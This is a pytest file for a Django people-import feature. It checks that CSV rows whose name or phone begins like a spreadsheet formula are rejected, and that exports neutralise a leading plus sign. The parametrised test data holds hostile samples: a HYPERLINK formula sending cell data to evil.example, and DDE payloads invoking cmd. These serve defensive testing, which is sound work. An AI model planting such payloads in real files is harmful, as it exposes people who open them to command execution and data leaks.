"""People import and export against spreadsheet formula injection (issue 10, hostile content)."""

import pytest
from django.urls import reverse

from apps.core.exceptions import ApplicationError
from apps.organization import services
from apps.organization.csv_import import parse_people_csv
from apps.organization.models import User
from tests.organization.factories import DepartmentFactory, PostFactory

HEADER = "employee_number,full_name,username,email,department,post,hire_date,phone,role\n"


@pytest.fixture
def structure(db):
    return DepartmentFactory(code="cs-2", name="Customer Service 2"), PostFactory(code="agent", name="Call agent")


@pytest.mark.parametrize(
    "row",
    [
        'F1,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",,,cs-2,agent,,,\n',
        "F1,@SUM(1+1)*cmd|' /C calc'!A0,,,cs-2,agent,,,\n",
        "F1,+cmd|' /C calc'!A0,,,cs-2,agent,,,\n",
        "F1,-2+3,,,cs-2,agent,,,\n",
        "=1+1,Wang Wei,wangwei,,cs-2,agent,,,\n",
        "F1,'=HYPERLINK(1),,,cs-2,agent,,,\n",  # our own export's quote does not smuggle it through
    ],
)
def test_a_name_or_number_that_starts_like_a_formula_is_a_bad_row(structure, row):
    preview = parse_people_csv(HEADER + row)

    assert not preview.rows
    assert "formula" in " ".join(preview.problems[0].reasons)


def test_a_file_with_a_formula_name_imports_nobody(officer, structure):
    with pytest.raises(ApplicationError):
        services.person_import(actor=officer, content=HEADER + "F1,=HYPERLINK(1),,,cs-2,agent,,,\n")
    assert not User.objects.filter(employee_number="F1").exists()


def test_a_phone_that_is_a_formula_is_a_bad_row(structure):
    preview = parse_people_csv(HEADER + "F1,Wang Wei,,,cs-2,agent,,=HYPERLINK(1),\n")

    assert "bad phone number" in preview.problems[0].reasons[0]


def test_a_plus_phone_number_survives_export_and_reimport(client, officer, structure):
    services.person_import(actor=officer, content=HEADER + "P1,Wang Wei,wangwei,,cs-2,agent,,+86 138 0000 0001,\n")
    client.force_login(officer)
    exported = b"".join(client.get(reverse("organization:person_export")).streaming_content).decode("utf-8-sig")
    assert "'+86 138 0000 0001" in exported  # neutralised on the way out

    result = services.person_import(actor=officer, content=exported)

    assert result.created == 0 and result.updated == 0
    assert User.objects.get(employee_number="P1").phone == "+86 138 0000 0001"
